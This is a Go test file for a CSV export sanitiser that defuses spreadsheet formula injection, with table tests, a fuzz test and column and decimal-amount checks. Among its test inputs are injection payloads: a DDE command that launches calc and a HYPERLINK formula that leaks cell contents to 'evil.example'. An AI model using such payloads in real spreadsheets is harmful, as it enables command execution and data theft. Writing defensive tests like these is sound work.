package linktrack

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
)

func TestNoCellIsAFormula(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"", ""},
		{"plain", "plain"},
		{"https://example.com/?a=1&b=-2+3@x", "https://example.com/?a=1&b=-2+3@x"},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"\t=1", "'\t'=1"},
		{"\ttext", "'\ttext"},
		{"\r=1", "'\r'=1"},
		{"\ntext", "'\ntext"},
		{"\x00=1", "'\x00=1"},
		{"  =1", "'  =1"},
		{"\u00a0\u3000=1", "'\u00a0\u3000=1"},
		{"\ufeff=1", "'\ufeff=1"},
		{"\u200b=1", "'\u200b=1"},
		{`"=1`, `'"=1`},
		{`" "' =1`, `'" "' =1`},
		{"'=1", "''=1"},
		{"’=1", "'’=1"},
		{"＝1", "'＝1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM", "'＠SUM"},
		{" text", " text"},
		{`"text"`, `"text"`},
		{"text;=1+1", "text;'=1+1"},
		{`a;"=1;b; @c`, `a;'"=1;b;' @c`},
		{"(compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "(compatible; Googlebot/2.1;' +http://www.google.com/bot.html)"},
		{"text\n=1", "text\n'=1"},
		{"text\r\n=1", "text\r\n'=1"},
		{"text\r\n\r\ntext", "text\r\n\r\ntext"},
		{"text\t=1", "text\t'=1"},
		{"text,=1", "text,=1"}, // within quotation marks
		{"ünï=1", "ünï=1"},
		{"\xff=1", "\xff=1"},
	} {
		require.Equal(t, c.want, cell(c.text), "%q", c.text)
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "=1", "\t\"=1", "a;=1;;-2", "＝\xff", "a\r\n=1", `""";'@`, "; ; ;+"} {
		f.Add(s)
	}
	// starts reports whether a spreadsheet that leaves out spaces and
	// quotation marks sees one of these first.
	starts := func(s, these string) bool {
		s = strings.TrimLeftFunc(s, func(r rune) bool {
			return !strings.ContainsRune(these, r) && (unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || strings.ContainsRune("\"'`‘’“”＂＇", r))
		})
		r, size := utf8.DecodeRuneInString(s)
		return size > 0 && strings.ContainsRune(these, r)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := cell(s)
		const formulas = "=+-@＝＋－＠"
		if got != "" && got[0] != '\'' {
			require.False(t, starts(got, formulas+"\t\r\n\x00"), "%q begins like a formula", got)
		}
		for part := range strings.FieldsFuncSeq(got, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			if part[0] != '\'' {
				require.False(t, starts(part, formulas), "%q of %q begins like a formula", part, got)
			}
		}
		rest := s // but for apostrophes, nothing is added and nothing is lost
		for i := range len(got) {
			if rest != "" && got[i] == rest[0] {
				rest = rest[1:]
			} else {
				require.Equal(t, byte('\''), got[i], "%q became %q", s, got)
			}
		}
		require.Empty(t, rest, "%q became %q", s, got)

		var b bytes.Buffer
		w := newCSV(&b)
		require.NoError(t, w.Write([]string{"before", got, "after"}))
		w.Flush()
		require.NoError(t, w.Error())
		rows, err := csv.NewReader(&b).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 1, "a text stays in its row")
		require.Len(t, rows[0], 3, "a text stays in its cell")
		plain := strings.NewReplacer("\r", "", "\n", "")
		require.Equal(t, plain.Replace(got), plain.Replace(rows[0][1]))
	})
}

func TestTheColumnsOfTheHistoryAreItsFields(t *testing.T) {
	typ := reflect.TypeFor[clickModel]()
	var names []string
	m := reflect.New(typ).Elem()
	for i := range typ.NumField() {
		name := typ.Field(i).Tag.Get("json")
		names = append(names, name)
		if m.Field(i).Kind() == reflect.String {
			m.Field(i).SetString(name)
		} else {
			m.Field(i).SetBool(true)
		}
	}
	require.Equal(t, names, clickColumns)
	record := m.Interface().(clickModel).record()
	require.Len(t, record, len(names))
	for i, s := range record {
		if m.Field(i).Kind() == reflect.String {
			require.Equal(t, names[i], s)
		} else {
			require.Equal(t, "1", s)
		}
	}
}

func TestAmountsAreDecimalNumbers(t *testing.T) {
	for n, want := range map[amount]string{
		0: "0", 1: "0.0001", -1: "-0.0001", 12_5000: "12.5", 12_0000: "12", -12_3400: "-12.34", 100_0000: "100",
		1<<63 - 1: "922337203685477.5807", -1 << 63: "-922337203685477.5808",
	} {
		b, err := json.Marshal(n)
		require.NoError(t, err)
		require.Equal(t, want, string(b))
	}
}
